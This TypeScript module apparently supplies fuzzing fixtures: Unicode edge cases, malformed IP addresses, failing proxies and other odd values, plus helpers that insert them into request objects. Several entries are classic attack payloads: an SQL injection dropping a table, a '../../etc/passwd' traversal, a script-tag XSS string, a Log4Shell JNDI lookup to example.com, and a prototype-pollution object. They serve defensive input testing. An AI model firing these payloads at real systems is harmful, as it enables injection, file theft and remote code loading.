import type { Random } from '../random.ts'

const MILLION = 1_000_000

/** Text of every sort that people, programs and attackers write. */
const TEXTS: Readonly<Record<string, string>> = {
  empty: '',
  blank: ' ',
  nul: '\0',
  'nul inside': 'a\0b',
  controls: 'a\u0001\u001f\u007f\u0085b',
  lines: 'a\r\nb\tc',
  'line separators': 'a\u2028b\u2029c',
  'lone high': 'a\ud800',
  'lone low': '\udfffb',
  'swapped pair': '\udc00\ud800',
  'right to left': '\u202eabc\u202c',
  hebrew: 'שלום עולם',
  composed: 'é',
  combining: 'e\u0301',
  'many combining': `e${'\u0301'.repeat(100)}`,
  emoji: '👩‍👩‍👧‍👦',
  'zero width': 'a\u200b\u200db\ufeff',
  'byte order mark': '\ufeff',
  noncharacters: 'a\ufffe\uffff\u{10ffff}',
  'full width': 'ｆｕｌｌ',
  kelvin: 'K',
  'dotted i': 'İıß',
  tilde: '~person',
  prototype: '__proto__',
  constructor: 'constructor',
  'to string': 'toString',
  quote: 'it\'s "quoted" `and` \\ back',
  sql: "'; drop table share_grants; --",
  places: '$1 ? :name @p %s {{x}}',
  like: '%_*',
  path: '../../etc/passwd',
  null: 'null',
  number: '1e309',
  json: '{"a":1}',
  'two hundred and fifty-five': 'x'.repeat(255),
  'two hundred and fifty-six': 'x'.repeat(256),
  'wide, of 255': '漢'.repeat(255),
  'pairs, of 255': `${'😀'.repeat(127)}x`,
  'a pair cut at 512': `${'x'.repeat(511)}😀`,
  thousand: 'x'.repeat(1024),
  million: 'x'.repeat(MILLION),
  'million lone': '\ud800'.repeat(MILLION),
  'million controls': '\u0001'.repeat(MILLION),
}

/** Addresses, and what proxies and people put in their place. */
const ADDRESSES: readonly string[] = [
  '192.0.2.1',
  '192.0.2.01',
  '0300.0.2.1',
  '3221225985',
  '192.0.2.1:80',
  '192.0.2.1, 10.0.0.1',
  '256.1.1.1',
  '::',
  '::1',
  '2001:DB8::1',
  '2001:db8:0:0:0:0:0:1',
  '[2001:db8::1]',
  '::ffff:192.0.2.1',
  '::ffff:c000:201',
  '::192.0.2.1',
  '64:ff9b::192.0.2.1',
  'fe80::1%eth0',
  'fe80::1%',
  'fe80::1%\0',
  `fe80::1%${'x'.repeat(500)}`,
  '2001:db8::/32',
  'unknown',
  '_hidden',
  'localhost',
  'é',
]

const AGENTS: readonly string[] = [
  'Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0',
  'Googlebot/2.1 (+http://www.google.com/bot.html)',
  '<script>alert(1)</script>',
  '$\u007bjndi:ldap://example.com/a}',
  `Mozilla/5.0 ${'(a'.repeat(5000)}`,
]

const failing = (): never => {
  throw new Error('thrown by what was given')
}
const revokedProxy = (): object => {
  const { proxy, revoke } = Proxy.revocable({}, {})
  revoke()
  return proxy
}
const circular = (): object => {
  const object: Record<string, unknown> = {}
  object['self'] = object
  return object
}

/** What is no text, made anew for each call. */
const OTHERS: Readonly<Record<string, () => unknown>> = {
  undefined: () => undefined,
  null: () => null,
  zero: () => 0,
  'minus one': () => -1,
  'a half': () => 0.5,
  'not a number': () => Number.NaN,
  infinite: () => Number.POSITIVE_INFINITY,
  'too large': () => 2 ** 53,
  bigint: () => 1n,
  true: () => true,
  symbol: () => Symbol('odd'),
  function: () => () => 'odd',
  'empty list': () => [],
  'list of text': () => ['odd'],
  'list of nothing': () => [null, undefined],
  'list with holes': () => new Array(3),
  'long list': () => new Array(100_000).fill('x'),
  'empty object': () => ({}),
  'without prototype': () => Object.create(null),
  'own prototype key': () => JSON.parse('{"__proto__":{"admin":"system"},"constructor":1}'),
  'text of a class': () => new String('odd'),
  'no date': () => new Date(Number.NaN),
  'far date': () => new Date(8.64e15),
  'early date': () => new Date(-1),
  map: () => new Map([['type', 'document']]),
  bytes: () => Buffer.from('odd'),
  error: () => new Error('odd'),
  circular,
  'failing text': () => ({ toString: failing, valueOf: failing, toJSON: failing }),
  'failing getter': () =>
    Object.defineProperties(
      {},
      Object.fromEntries(
        ['type', 'id', 'userId', 'tenantId', 'token', 'visibility', 'name', 'ip', 'resource'].map((name) => [
          name,
          { get: failing, enumerable: true },
        ]),
      ),
    ),
  'failing proxy': () =>
    new Proxy({}, { get: failing, has: failing, ownKeys: failing, getPrototypeOf: failing }),
  'failing list': () => new Proxy([], { get: failing }),
  'revoked proxy': revokedProxy,
}

/** What is tried, told by its name; each side gets one of its own. */
export interface Odd {
  name: string
  make(): unknown
}

const text = ([name, value]: [string, string]): Odd => ({ name, make: () => value })
export const ODD_TEXTS: readonly Odd[] = [
  ...Object.entries(TEXTS).map(text),
  ...[...ADDRESSES, ...AGENTS].map((one) => text([JSON.stringify(one).slice(0, 40), one])),
]
const ODD_OTHERS: readonly Odd[] = Object.entries(OTHERS).map(([name, make]) => ({ name, make }))

export const oddity = (random: Random): Odd => random.pick(random.below(5) < 3 ? ODD_TEXTS : ODD_OTHERS)

/** Odd as they are, and fit to be part of an id. */
export const FIT: readonly string[] = Object.values(TEXTS).filter(
  (one) => one.length < 200 && one.isWellFormed() && !/[\u0000-\u001f\u007f~]/.test(one),
)

/** Every place in what is given to a call: itself, and all that is in it. */
export function placesIn(value: unknown, path: readonly string[] = []): string[][] {
  const here = path.length === 0 ? [] : [[...path]]
  if (typeof value !== 'object' || value === null || value instanceof Date) return here
  return [...here, ...Object.entries(value).flatMap(([name, part]) => placesIn(part, [...path, name]))]
}

/** The same with something else in one place, or with one more key there. */
export function withOdd<T>(value: T, [name = '', ...rest]: readonly string[], odd: unknown): T {
  const copy = (Array.isArray(value) ? [...value] : { ...value }) as Record<string, unknown>
  const set = rest.length === 0 ? odd : withOdd(copy[name], rest, odd)
  Object.defineProperty(copy, name, { value: set, enumerable: true, writable: true, configurable: true })
  return copy as T
}
